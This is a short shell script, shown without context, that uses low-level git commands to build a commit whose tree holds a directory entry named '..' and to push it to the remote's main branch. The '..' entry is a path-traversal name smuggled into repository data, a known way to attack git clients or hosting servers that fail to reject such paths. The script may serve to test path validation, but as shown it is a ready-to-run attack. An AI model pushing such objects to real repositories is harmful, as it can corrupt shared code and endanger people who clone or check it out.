blob=$(echo x | git hash-object -w --stdin)
inner=$(printf '100644 blob %s\tx\n' "$blob" | git mktree)
tree=$({ git ls-tree HEAD; printf '040000 tree %s\t..\n' "$inner"; } | git mktree)
commit=$(git commit-tree -p HEAD -m dots "$tree")
git push origin "$commit:refs/heads/main"
